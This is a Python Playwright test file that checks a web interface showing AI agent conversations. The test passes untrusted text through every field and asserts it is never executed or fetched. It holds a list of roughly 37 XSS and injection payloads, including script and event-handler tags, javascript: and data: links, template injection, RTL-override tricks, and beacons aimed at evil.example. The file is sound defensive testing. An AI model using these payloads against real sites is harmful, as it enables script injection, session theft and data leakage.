"""security.md INJ-5 and H17: nothing that others write is executed, and nothing remote is fetched."""

from playwright.sync_api import expect

from cloudagent_protocol.events import Outcome, Reason
from cloudagent_protocol.resources import Runtime
from e2e.page.conftest import Visitor
from e2e.page.scripted_backend import ScriptedBackend

#: Each would set `window.pwned`, open a dialog or ask a server, if anything of it worked.
HOSTILE = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '<img src="https://evil.example/beacon.png">',
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<marquee onstart=window.pwned=1>",
    "<object data='javascript:window.pwned=1'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<template><script>window.pwned=1</script></template>",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[click](vbscript:window.pwned=1)",
    "![beacon](https://evil.example/beacon.png)",
    '![x](https://evil.example/b.png "t" onerror=window.pwned=1)',
    '[a](https://evil.example/"onmouseover="window.pwned=1)',
    "<https://evil.example/auto>",
    '```html"><img src=x onerror=window.pwned=1>\ncode\n```',
    "`<img src=x onerror=window.pwned=1>`",
    "| a |\n|---|\n| <img src=x onerror=window.pwned=1> |",
    "{{constructor.constructor('window.pwned=1')()}}",
    "\x1b]8;;javascript:window.pwned=1\x07click\x1b]8;;\x07",
    "\u202e<img src=x onerror=window.pwned=1>",
]


def test_hostile_text_does_nothing_wherever_it_stands(
    visitor: Visitor, backend: ScriptedBackend
) -> None:
    everything = "\n\n".join(HOSTILE)
    broken = Runtime(name=HOSTILE[1], version=HOSTILE[3], path=HOSTILE[2], problem=HOSTILE[0])
    host = backend.add_host(HOSTILE[1], runtimes=[broken])
    agent = backend.add_agent(HOSTILE[0], host, cwd="/" + HOSTILE[3])
    conversation = backend.add_conversation(agent, title=HOSTILE[1])
    message = backend.say(conversation, everything)
    work = backend.work(message)
    for text in HOSTILE:
        work.write(text)
        work.end_block()
        call = work.call(text, {"command": text, text: text})
        work.result(call, text, is_error=True)
        work.reply(text)
    work.reply(everything)
    work.finish(Outcome.FAILED, Reason.CRASHED, everything, everything, exit_code=1)

    page = visitor.window()
    expect(page.get_by_role("log")).to_be_visible()
    page.get_by_role("button", name="Failed after").click()
    for card in page.locator(".tool-head").all():
        card.click()
    page.locator(".ladder-words").first.click()
    for link in page.locator(".markdown a").all():
        href = link.get_attribute("href") or ""
        assert href.lower().startswith(("https://", "http://", "mailto:")), href
        assert link.get_attribute("rel") == "noopener noreferrer"
        link.hover()
    tags = page.locator(".markdown").evaluate_all(
        "all => [...new Set(all.flatMap(m => [...m.querySelectorAll('*')].map(e => e.localName)))]"
    )
    assert not {"img", "script", "iframe", "svg", "style", "form", "input", "object"} & set(tags)
    page.goto(f"{backend.url}/hosts")
    expect(page.get_by_role("heading", name="Host machines")).to_be_visible()
    assert page.evaluate("() => window.pwned") is None
    # The fixture asserts that there was no error, no dialog and no request to elsewhere.


def test_a_picture_is_a_link_and_not_fetched(visitor: Visitor, backend: ScriptedBackend) -> None:
    agent = backend.add_agent("shop", backend.add_host("mbp"))
    conversation = backend.add_conversation(agent)
    work = backend.work(backend.say(conversation, "show me"))
    work.reply("![the chart](https://example.com/chart.png)")
    work.finish()
    page = visitor.window()
    link = page.get_by_role("link", name="the chart")
    expect(link).to_have_attribute("href", "https://example.com/chart.png")
    expect(link).to_have_attribute("target", "_blank")


def test_text_that_would_turn_a_line_round_is_made_visible(
    visitor: Visitor, backend: ScriptedBackend
) -> None:
    agent = backend.add_agent("shop", backend.add_host("mbp"))
    backend.say(backend.add_conversation(agent), "rm \u202egpj.exe")
    page = visitor.window()
    expect(page.locator(".typed")).to_have_text("rm ⟨U+202E⟩gpj.exe")
